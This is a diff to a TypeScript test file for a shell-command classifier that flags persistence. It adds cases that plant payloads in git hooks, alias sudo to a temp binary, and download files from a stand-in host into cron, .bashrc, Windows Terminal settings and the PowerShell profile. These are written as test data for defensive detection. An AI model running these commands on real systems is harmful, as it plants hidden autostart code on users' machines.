@@ -51,6 +51,20 @@ const flagged: Array<[string, Shell, string]> = [
   ['Add-Content $profile -Value "Start-Process C:\\t\\x.exe"', 'powershell', 'persist.file'],
   ['mofcomp.exe C:\\t\\x.mof', 'cmd', 'persist.wmi-subscription'],
   ['netsh add helper C:\\t\\h.dll', 'cmd', 'persist.netsh-helper'],
+  // git hooks run with every commit, checkout or merge
+  ['cp /tmp/h /srv/app/.git/hooks/post-merge', 'bash', 'persist.file'],
+  ['echo "/tmp/x &" > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit', 'bash', 'persist.file'],
+  ['Set-Content -Path C:\\src\\app\\.git\\hooks\\post-checkout -Value "C:\\t\\x.exe"', 'powershell', 'persist.file'],
+  ['echo "alias sudo=\'/tmp/x\'" >> ~/.bash_aliases', 'bash', 'persist.file'],
+  // a download written straight into an autostart location
+  ['curl -fsSL -o /etc/cron.d/job https://x.example/job', 'bash', 'persist.file'],
+  ['wget -q --output-document=/home/u/.bashrc https://x.example/rc', 'bash', 'persist.file'],
+  [
+    'Invoke-WebRequest https://x.example/s.json -OutFile "$env:LOCALAPPDATA\\Packages\\Microsoft.WindowsTerminal_8wekyb3d8bbwe\\LocalState\\settings.json"',
+    'powershell',
+    'persist.file',
+  ],
+  ['iwr https://x.example/p.ps1 -outfile $HOME\\Documents\\WindowsPowerShell\\profile.ps1', 'powershell', 'persist.file'],
 ];
 
 const allowed: Array<[string, Shell]> = [
@@ -74,6 +88,11 @@ const allowed: Array<[string, Shell]> = [
   ['launchctl unload ~/Library/LaunchAgents/com.x.plist', 'zsh'],
   ['usermod -aG developers alice', 'bash'],
   ['Enable-PSRemoting -Force', 'powershell'],
+  ['cat .git/hooks/pre-commit.sample', 'bash'],
+  ['ls -la /srv/app/.git/hooks', 'bash'],
+  ['curl -O https://x.example/.bashrc', 'bash'],
+  ['curl -fsSL -o /tmp/job https://x.example/job', 'bash'],
+  ['Invoke-WebRequest https://x.example/s.json -OutFile C:\\Temp\\settings.json', 'powershell'],
 ];
 
 describe('persistence', () => {
